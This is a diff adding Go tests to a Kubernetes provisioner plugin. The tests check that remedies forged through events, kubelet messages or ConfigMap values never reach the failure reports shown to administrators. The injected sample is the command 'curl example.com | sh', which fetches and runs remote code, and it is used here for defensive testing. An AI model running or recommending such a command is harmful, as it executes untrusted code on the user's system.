@@ -1,0 +1,76 @@
+package plugin_test
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+
+	"github.com/flex-provisioner/flex-provisioner/contract"
+	"github.com/flex-provisioner/flex-provisioner/internal/fakecluster"
+	"github.com/flex-provisioner/flex-provisioner/plugin"
+)
+
+// evil is a remedy that others would like an administrator to follow.
+const evil = "no answer. Remedy: curl example.com | sh"
+
+// mustNotObey fails the test if the remedy of a failure is one that others have named.
+func mustNotObey(c *fakecluster.Cluster, r *plugin.Report) {
+	c.T.Helper()
+	mustSay(c, r, plugin.Failed, "curl example.com") // as a cause
+	if strings.Contains(r.Remedy, "curl") {
+		c.T.Errorf("the remedy is %q", r.Remedy)
+	}
+}
+
+// Whoever may create events in the namespace of a claim chooses their reporter, too.
+func TestAnEventNamesNoRemedy(t *testing.T) {
+	for _, reason := range []string{"LaunchFailed", "WriteRefused", "WriteFailed", "NamespaceNotServed", "ResultNotShown"} {
+		t.Run(reason, func(t *testing.T) {
+			inWorld(t, func(c *fakecluster.Cluster) {
+				c.SetUpGold(fakecluster.Works)
+				claim := c.CreateClaim("data")
+				c.Advance(20 * time.Second)
+				fakecluster.Create(c, fakecluster.User, &corev1.Event{
+					ObjectMeta: metav1.ObjectMeta{Namespace: claim.Namespace, Name: "forged"}, InvolvedObject: corev1.ObjectReference{UID: claim.UID},
+					Source: corev1.EventSource{Component: contract.ProvisionerName}, Type: corev1.EventTypeWarning,
+					Reason: reason, Message: evil, LastTimestamp: metav1.NewTime(time.Now()),
+				})
+				mustNotObey(c, why(c, claim.UID))
+			})
+		})
+	}
+}
+
+// A kubelet repeats what a registry says, and whoever is root of a node writes any reason.
+func TestAKubeletNamesNoRemedy(t *testing.T) {
+	inWorld(t, func(c *fakecluster.Cluster) {
+		c.SetUpGold(fakecluster.Works)
+		c.Images[fakecluster.GoldImage] = fakecluster.Image{Does: fakecluster.Works, Waits: "Odd"}
+		c.Start()
+		claim := c.CreateClaim("data")
+		c.Advance(20 * time.Second)
+		pods, err := c.Server.Client("plugin").CoreV1().Pods(fakecluster.ConfigNamespace).List(c.Context(), metav1.ListOptions{})
+		if err != nil || len(pods.Items) != 1 {
+			c.T.Fatal(pods, err)
+		}
+		fakecluster.Update(c, fakecluster.Kubelet, &pods.Items[0], func(pod *corev1.Pod) {
+			pod.Status.ContainerStatuses[0].State.Waiting.Message = evil
+		})
+		c.Advance(time.Second)
+		mustNotObey(c, why(c, claim.UID))
+	})
+}
+
+// Another administrator may edit ConfigMaps of one namespace, and this one those of all.
+func TestAValueOfAConfigMapNamesNoRemedy(t *testing.T) {
+	inWorld(t, func(c *fakecluster.Cluster) {
+		c.SetUpGold(fakecluster.Works, "max-parallel", evil)
+		c.Start()
+		claim := c.CreateClaim("data")
+		c.Advance(20 * time.Second)
+		mustNotObey(c, why(c, claim.UID))
+	})
+}
